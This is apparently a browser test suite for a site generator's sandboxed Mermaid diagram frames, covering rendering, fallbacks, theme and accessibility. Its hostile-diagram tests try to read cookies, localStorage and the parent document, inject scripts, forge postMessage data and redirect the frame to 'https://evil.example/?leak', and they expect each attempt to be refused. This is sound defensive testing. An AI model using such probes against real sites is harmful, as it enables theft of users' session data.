/** Diagrams in a real browser: what they show, and what they cannot do. */
import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser, Frame, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest'
import { startServing } from '../cli/serving.ts'
import { LOOKS, violationsOf } from './accessibility.ts'
import { type BuiltSite, buildAndServe, launchBrowser } from './browser.ts'

/** A slow machine needs seconds to read the drawing script. */
const patience = { timeout: 40_000, interval: 100 }
const folder = mkdtempSync(join(tmpdir(), 'marcasite-diagrams-'))
const notes = join(folder, 'notes')

let browser: Browser
let site: BuiltSite

beforeAll(async () => {
	cpSync(join(import.meta.dirname, '../fixtures/diagrams'), notes, { recursive: true })
	writeFileSync(join(notes, 'large.md'), `\`\`\`mermaid\nflowchart LR\n${'  A --> B\n'.repeat(5100)}\`\`\`\n`)
	browser = await launchBrowser()
	site = await buildAndServe(notes, '--base', '/wiki/')
})

afterAll(async () => {
	await browser.close()
	await site.close()
	rmSync(folder, { recursive: true, force: true })
})

interface Visit {
	readonly page: Page
	/** Everything that was asked for. */
	readonly requests: readonly string[]
	/** Errors, dialogs, and requests to other sites. */
	readonly faults: readonly string[]
}

async function open(address: string, options: Parameters<Browser['newContext']>[0] = {}): Promise<Visit> {
	const context = await browser.newContext(options)
	onTestFinished(() => context.close())
	const page = await context.newPage()
	page.setDefaultTimeout(30_000)
	const requests: string[] = []
	const faults: string[] = []
	page.on('console', message => message.type() === 'error' && faults.push(message.text()))
	page.on('pageerror', error => faults.push(String(error)))
	page.on('dialog', dialog => {
		faults.push(`dialog ${dialog.message()}`)
		dialog.dismiss().catch(() => undefined)
	})
	page.on('request', request => {
		requests.push(request.url())
		if (new URL(request.url()).origin !== new URL(address).origin && !request.url().startsWith('data:'))
			faults.push(request.url())
	})
	await page.goto(address)
	return { page, requests, faults }
}

/** The document in the frame of the first diagram, once it is drawn. */
async function drawn(page: Page): Promise<Frame> {
	const figure = page.locator('figure.diagram').first()
	await expect.poll(() => figure.getAttribute('data-state'), patience).toBe('drawn')
	return (await (await figure.locator('iframe').elementHandle())?.contentFrame()) as Frame
}

/** What a promise in the frame is refused with, or `allowed`. */
async function attempt(frame: Frame, code: string): Promise<string> {
	return await frame.evaluate(async text => {
		const body = Object.getPrototypeOf(async () => undefined).constructor
		try {
			await new body(text)()
			return 'allowed'
		} catch (error) {
			return (error as Error).name
		}
	}, code)
}

describe('a diagram', () => {
	it('is drawn in a frame with its name, its source stays at hand, and what is printed is the drawing', async () => {
		const { page, faults } = await open(`${site.url}flow/`)
		const frame = await drawn(page)
		expect(await frame.locator('svg').textContent()).toContain('Stock of water')
		const figure = page.locator('figure.diagram').first()
		const iframe = figure.locator('iframe')
		expect(await iframe.getAttribute('title')).toBe('Diagram: A reinforcing loop')
		expect(await iframe.getAttribute('sandbox')).toBe('allow-scripts')
		expect((await iframe.boundingBox())?.height).toBeGreaterThan(50)
		expect(await figure.locator('pre').isVisible()).toBe(false)
		await figure.getByText('Source of the diagram').click()
		expect(await figure.locator('pre').textContent()).toContain('-->|drains| Flow(Flow)')
		await expect.poll(() => page.locator('figure.diagram[data-state=drawn]').count(), patience).toBe(2)
		await page.emulateMedia({ media: 'print' })
		expect(await page.locator('.diagram-source').first().isVisible()).toBe(false)
		expect(await iframe.isVisible()).toBe(true)
		expect(faults).toEqual([])
	})

	it.each([
		['the home page', '', 'Wanted'],
		['a page that embeds it', 'embedding/', 'answers'],
	])('is drawn on %s', async (_page, path, text) => {
		const { page, faults } = await open(site.url + path)
		expect(await (await drawn(page)).locator('svg').textContent()).toContain(text)
		expect(faults).toEqual([])
	})
})

describe('a page without diagrams', () => {
	it('loads nothing of them', async () => {
		const { page, requests } = await open(`${site.url}plain/`)
		await page.waitForLoadState('networkidle')
		expect(requests.filter(url => url.includes('diagram'))).toEqual([])
		const scripts = async (path: string) => (await (await fetch(site.url + path)).text()).match(/<script/g)?.length
		expect(await scripts('plain/')).toBe(((await scripts('broken/')) ?? 0) - 1)
	})
})

describe('while a diagram cannot be drawn', () => {
	it('is its source without script', async () => {
		const { page } = await open(`${site.url}flow/`, { javaScriptEnabled: false })
		expect(await page.locator('figure.diagram pre').first().isVisible()).toBe(true)
		expect(await page.locator('figure.diagram pre').first().textContent()).toContain('Gauge -- no --> Stock')
		expect(await page.locator('iframe').count()).toBe(0)
	})

	it.each([
		['has a mistake', 'broken/', /could not be drawn\. Parse error on line 2\.$/],
		['is too long', 'large/', /could not be drawn\. It is too long\./],
	])('says so where its source %s, and shows it', async (_why, path, message) => {
		const { page } = await open(site.url + path)
		const figure = page.locator('figure.diagram')
		await expect.poll(() => figure.locator('.diagram-fault').textContent(), patience).toMatch(message)
		expect(await figure.locator('pre').isVisible()).toBe(true)
		expect(await figure.locator('iframe, details').count()).toBe(0)
	})

	it('says so where what draws it is gone', async () => {
		const context = await browser.newContext()
		onTestFinished(() => context.close())
		const page = await context.newPage()
		await page.route('**/_diagrams/mermaid.*', route => route.abort())
		await page.goto(`${site.url}flow/`)
		await expect
			.poll(() => page.locator('.diagram-fault').first().textContent(), patience)
			.toContain('could not be loaded')
		expect(await page.locator('figure.diagram pre').first().isVisible()).toBe(true)
	})
})

describe('the theme', () => {
	const inkOf = (frame: Frame) =>
		frame.evaluate(() => {
			const label = document.querySelector('svg .nodeLabel, svg .label text, svg text') as Element
			const numbers = getComputedStyle(label).fill.match(/\d+/g) ?? []
			return numbers.slice(0, 3).reduce((sum, number) => sum + Number(number), 0) / 3
		})

	it('is that of the page, and turns with it', async () => {
		const { page, faults } = await open(`${site.url}flow/`, { colorScheme: 'dark' })
		const frame = await drawn(page)
		const looks = async () => ((await inkOf(frame)) < 125 ? 'light' : 'dark')
		expect(await looks()).toBe('dark')
		await page.evaluate(() => document.documentElement.setAttribute('data-theme', 'light'))
		await expect.poll(looks, patience).toBe('light')
		expect(faults).toEqual([])
	})
})

describe('a hostile diagram', () => {
	it('draws harmless words, runs nothing, asks nobody and leads nowhere', async () => {
		const { page, faults } = await open(`${site.url}hostile/`)
		const frame = await drawn(page)
		expect(await frame.locator('svg').textContent()).toContain('Innocent')
		expect(
			await frame
				.locator('script, svg img, svg [onerror], svg [href]')
				.evaluateAll(found => found.filter(element => element.closest('#stage')).map(element => element.outerHTML)),
		).toEqual([])
		await frame.getByText('Second').click()
		await frame.getByText('Innocent').click()
		expect(page.url()).toBe(`${site.url}hostile/`)
		expect(await frame.evaluate(() => document.querySelector('#stage')?.innerHTML)).not.toContain('evil.example')
		// Mermaid reads a label as HTML on its way to text; the policy stops what that would have run.
		expect(faults.filter(fault => !fault.startsWith('Executing inline event handler violates'))).toEqual([])
	})

	it('could do nothing even if it ran, and is refused all that a frame can ask for', async () => {
		const { page } = await open(`${site.url}hostile/`)
		const frame = await drawn(page)
		const address = JSON.stringify(site.url)
		expect(await frame.evaluate(() => self.origin)).toBe('null')
		expect(await attempt(frame, 'parent.document')).toBe('SecurityError')
		expect(await attempt(frame, 'localStorage')).toBe('SecurityError')
		expect(await attempt(frame, 'document.cookie')).toBe('SecurityError')
		expect(await attempt(frame, `top.location = ${address}`)).toBe('SecurityError')
		expect(await frame.evaluate(() => open('/'))).toBe(null)
		const refused = () => frame.evaluate(() => (globalThis as { refused?: string[] }).refused?.toSorted())
		await frame.evaluate(() => {
			const list: string[] = []
			Object.assign(globalThis, { refused: list })
			addEventListener('securitypolicyviolation', event => list.push(event.effectiveDirective))
			const add = (name: string, fields: object) =>
				document.body.append(Object.assign(document.createElement(name), fields))
			add('script', { textContent: 'globalThis.ran = true' })
			add('script', { src: '/a.js' })
			add('img', { src: '/a.png' })
			add('video', { src: '/a.mp4' })
			add('iframe', { src: '/' })
			add('object', { data: '/a.pdf' })
			add('link', { rel: 'stylesheet', href: '/a.css' })
			add('style', { textContent: '@import url(/b.css);' })
			fetch('/', { mode: 'no-cors' }).catch(() => undefined)
		})
		await expect
			.poll(refused, patience)
			.toEqual([
				'connect-src',
				'frame-src',
				'img-src',
				'media-src',
				'object-src',
				'script-src-elem',
				'script-src-elem',
				'style-src-elem',
				'style-src-elem',
			])
		expect(await frame.evaluate(() => 'ran' in globalThis)).toBe(false)
	})

	it('is believed nothing, and cannot send its frame to another site', async () => {
		const { page, requests } = await open(`${site.url}hostile/`)
		const frame = await drawn(page)
		await frame.evaluate(() => {
			parent.postMessage({ kind: 'drawn', height: 1e9 }, '*')
			parent.postMessage({ kind: 'ready', script: '../secret.js' }, '*')
			parent.postMessage('nonsense', '*')
			parent.postMessage(null, '*')
		})
		const height = () => page.locator('figure.diagram > iframe').evaluate(element => element.clientHeight)
		await expect.poll(height, patience).toBe(6000)
		const refused = page.waitForEvent('console', message => message.text().includes('frame-src'))
		await frame.evaluate(() => {
			location.href = 'https://evil.example/?leak'
		})
		await refused
		expect(requests.filter(url => url.includes('evil'))).toEqual([])
	})
})

describe('the page of the frame', () => {
	it('draws nothing when it is opened by itself', async () => {
		const { page, requests } = await open(`${site.url}_diagrams/frame.html`)
		await page.evaluate(() => postMessage({ kind: 'load', code: '' }, '*'))
		expect(await page.locator('script').count()).toBe(1)
		expect(await page.locator('#stage').innerHTML()).toBe('')
		expect(requests).toHaveLength(1)
	})
})

describe('a page with a diagram', () => {
	it.each(['flow/', 'broken/'])('%s is accessible and keeps to its width', async path => {
		const { page } = await open(site.url + path)
		await page.locator('figure.diagram[data-state]').first().waitFor()
		for (const [colorScheme, width, rules] of LOOKS) {
			await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' })
			await page.setViewportSize({ width, height: 800 })
			expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width)
			expect(await violationsOf(page, rules), `${path} ${colorScheme} ${width}`).toEqual([])
		}
	})
})

describe('marcasite dev', () => {
	it('serves what draws', async () => {
		const { url } = await startServing(folder, ['dev', 'notes'])
		const frame = await fetch(`${url}_diagrams/frame.html`)
		expect(frame.headers.get('content-type')).toContain('text/html')
		const text = await frame.text()
		expect(text).toContain('id="stage"')
		const script = await fetch(`${url}_diagrams/${/mermaid\.[\da-f]+\.js/.exec(text)?.[0]}`)
		expect([script.status, script.headers.get('content-type')]).toEqual([200, 'text/javascript; charset=utf-8'])
		expect(await (await fetch(`${url}flow/`)).text()).toContain('figure class="diagram')
	})
})
